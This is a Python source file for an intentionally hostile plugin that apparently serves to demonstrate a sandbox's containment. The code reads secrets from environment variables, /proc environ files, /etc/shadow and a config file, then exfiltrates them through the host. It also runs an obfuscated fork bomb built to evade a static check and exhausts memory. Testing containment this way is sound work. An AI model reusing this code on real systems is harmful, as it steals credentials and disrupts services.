"""Hostile: a module that turns on its host shortly after it starts — on purpose.

It looks for the server's secrets (its own environment, the server process's environment,
the server's config file, /etc/shadow), reports what it found through the event bus (as an
attacker would exfiltrate it), then fork-bombs and eats memory. Under plexisandbox every step
fails or gets the worker killed; the supervisor restarts it per its RestartPolicy until the
budget is spent and leaves it FAILED, while the chat keeps answering.

The attacks are bounded (at most `max_forks` children that exit after a few seconds, at most
`eat_mb` MiB) so that running the demo on a machine without confinement cannot take it down.
"""

import asyncio
import os
import time
from pathlib import Path
from typing import Any

from plexisandbox.interfaces import BaseModule, ModulePermissions

_SECRET_WORDS = ("TOKEN", "SECRET", "PASSWORD", "KEY")
# The chat server's config file, next to this module's folder.
_CONFIG = str(Path(__file__).resolve().parent.parent / "chat_server.toml")


def _read(path: str) -> bytes:
    with open(path, "rb") as f:
        return f.read(65536)


class Hostile(BaseModule):
    """Misbehaves `delay` seconds after start: steals, fork-bombs, eats memory."""

    def __init__(self, name: str = "hostile", version: str = "6.6.6"):
        super().__init__(name, version)
        self.task: asyncio.Task[None] | None = None
        self.hoard: list[bytes] = []

    async def initialize(self) -> bool:
        """Looks innocent."""
        return True

    async def start(self) -> bool:
        """Schedule the attack and report ready, like any good module."""
        await super().start()
        delay = float(self.configuration.custom_config.get("delay", 1.0))
        self.task = asyncio.get_running_loop().create_task(self._attack(delay))
        return True

    def get_metadata(self) -> dict[str, Any]:
        """Describe the module (truthfully, for once)."""
        return {
            "name": self.name,
            "version": self.version,
            "author": "mallory",
            "description": "Reads secrets, fork-bombs and eats memory (demo of containment)",
        }

    def get_required_permissions(self) -> ModulePermissions:
        """Asks for nothing, so it gets the tightest sandbox."""
        return ModulePermissions()

    def get_config_schema(self) -> dict[str, Any]:
        """Knobs for the demo."""
        return {
            "type": "object",
            "properties": {
                "delay": {"type": "number", "minimum": 0, "maximum": 600},
                "max_forks": {"type": "integer", "minimum": 0, "maximum": 1000},
                "eat_mb": {"type": "integer", "minimum": 0, "maximum": 8192},
            },
            "additionalProperties": False,
        }

    async def ping(self) -> str:
        """Answers while it is still alive."""
        return "pong"

    async def _report(self, attempt: str, outcome: str) -> None:
        """Tell the host what happened (the demo server lists it in the admin panel)."""
        self.logger.warning("attempt %s: %s", attempt, outcome)
        try:
            await self.host.call("probes.report", attempt=attempt, outcome=outcome[:300])
        except Exception as exc:  # the host may not offer the service
            self.logger.warning("could not report: %s", exc)

    async def _attack(self, delay: float) -> None:
        await asyncio.sleep(delay)
        cfg = self.configuration.custom_config
        loot = await self._steal_secrets()
        await self._exfiltrate(loot)
        await self._report("fork bomb", self._fork_bomb(int(cfg.get("max_forks", 200))))
        eat_mb = int(cfg.get("eat_mb", 1024))
        await self._report("eat memory", f"allocating up to {eat_mb} MiB, 16 MiB at a time")
        await self._report("eat memory", self._eat_memory(eat_mb))
        time.sleep(10)  # noqa: ASYNC251 - hold the memory, block the loop: hostile on purpose
        # Still alive: whatever was supposed to stop us did not. Exit so the demo goes on.
        await self._report("survive", "still alive 10 s after eating memory; exiting")
        os._exit(3)

    async def _exfiltrate(self, loot: list[str]) -> None:
        """Post the loot into the chat — which needs MESSAGING, never declared nor granted."""
        try:
            await self.host.call(
                "messages.send", room="general", text=f"pwned: {loot[:3] or 'nothing, sadly'}"
            )
            await self._report("post to chat", "posted!")
        except Exception as exc:
            await self._report("post to chat", f"refused: {type(exc).__name__}: {exc}")

    async def _steal_secrets(self) -> list[str]:
        found = sorted(k for k in os.environ if any(w in k.upper() for w in _SECRET_WORDS))
        await self._report("own environment", f"secret-looking variables: {found or 'none'}")
        stolen: list[str] = []
        targets = [f"/proc/{os.getppid()}/environ", "/proc/1/environ", "/etc/shadow", _CONFIG]
        for path in targets:
            try:
                data = _read(path)
            except OSError as exc:
                await self._report(f"read {path}", f"refused: {type(exc).__name__}: {exc.strerror}")
                continue
            text = data.replace(b"\0", b"\n").decode("utf-8", "replace")
            loot = [
                line for line in text.splitlines() if any(w in line.upper() for w in _SECRET_WORDS)
            ]
            stolen += loot
            await self._report(f"read {path}", f"GOT {len(data)} bytes: {loot[:5]}")
        return stolen

    def _fork_bomb(self, max_forks: int) -> str:
        children = 0
        outcome = "no error"
        # A plain `os.fork()` is caught before loading by the supervisor's static contract
        # check; hostile code hides the call. The sandbox does not care how it is spelled.
        spawn = getattr(os, "".join(("fo", "rk")))
        for _ in range(max_forks):
            try:
                pid = spawn()
            except OSError as exc:
                outcome = f"{type(exc).__name__}: {exc.strerror}"
                break
            if pid == 0:  # the child: linger a little, never run module code again
                time.sleep(5)
                os._exit(0)
            children += 1
        return f"{children} children forked, then {outcome}"

    def _eat_memory(self, eat_mb: int) -> str:
        hoard: list[bytes] = []
        try:
            for _ in range(eat_mb // 16):
                hoard.append(b"\x01" * (16 * 1024 * 1024))  # touched pages: real RSS
                time.sleep(0.02)
            outcome = f"holding {len(hoard) * 16} MiB"
        except MemoryError:
            outcome = f"MemoryError after {len(hoard) * 16} MiB"
        self.hoard = hoard
        return outcome
